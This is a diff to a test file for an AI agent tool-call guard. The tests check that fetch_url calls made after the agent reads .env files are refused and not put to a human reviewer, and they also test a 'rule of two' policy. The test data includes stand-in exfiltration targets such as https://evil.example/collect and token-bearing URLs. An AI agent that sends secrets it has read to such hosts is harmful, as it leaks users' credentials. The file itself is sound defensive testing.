@@ -134,12 +134,51 @@ describe('sensitive reads by every tool', () => {
         'https://docs.example.com/tok-live',
         'https://docs.example.com/calc/t',
       ])
-        expect(await turn(guard, 'fetch_url', { url })).toBe('tainted_run')
+        expect(await turn(guard, 'fetch_url', { url })).toBe('untrusted_flow')
       expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/calc' })).toBe(
         'allowed',
       )
     })
   }
+
+  /** Asks about one call as an adapter under `onRefuse: 'ask'` does: its codes, and the count. */
+  async function ask(guard: PlanGuard, tool: string, args: Record<string, unknown>) {
+    counter += 1
+    const id = `ask_${counter}`
+    guard.submitPlan([{ id, tool, args }], 'turn')
+    const result = await guard.authorize({ tool, args, callId: id, asksHuman: true })
+    const codes = result.allowed ? [] : result.issues.map((issue) => issue.code)
+    return { codes, questions: guard.snapshot().flow?.questions ?? 0 }
+  }
+
+  it('should never put a URL after a sensitive read to a human, and still ask about one before', async () => {
+    const guard = await guardWith({ ...allowlist, onRefuse: 'ask' }, ['.env'])
+    await turn(guard, 'view_file', { file: 'README.md' })
+    // Tainted, nothing sensitive read: the reviewer sees the whole request, so it is asked.
+    expect(await ask(guard, 'fetch_url', { url: 'https://evil.example/collect' })).toEqual({
+      codes: ['tainted_run'],
+      questions: 1,
+    })
+    expect(await turn(guard, 'view_file', { file: '.env.local' })).toBe('allowed')
+    // The same host now, and the docs host: the reviewer would see a URL, not the key it carries.
+    for (const url of ['https://evil.example/collect', 'https://docs.example.com/tok-live'])
+      expect((await ask(guard, 'fetch_url', { url })).questions).toBe(1)
+    expect((await ask(guard, 'fetch_url', { url: 'https://evil.example/x' })).codes).toEqual([
+      'tainted_run',
+      'untrusted_flow',
+    ])
+    expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/calc' })).toBe('allowed')
+  })
+
+  it('should not ask about a URL the rule of two refuses after a sensitive read', async () => {
+    const guard = await guardWith({ ...ruleOfTwo(), onRefuse: 'ask' })
+    await turn(guard, 'view_file', { file: 'README.md' })
+    expect(await turn(guard, 'view_file', { file: '.env' })).toBe('allowed')
+    expect(await ask(guard, 'fetch_url', { url: 'https://docs.example.com/' })).toEqual({
+      codes: ['tainted_run', 'untrusted_flow'],
+      questions: 0,
+    })
+  })
 
   it('should leave URLs to the host lists while no sensitive path was read', async () => {
     await writeFile(join(workspace.root, 'build.js'), 'x')
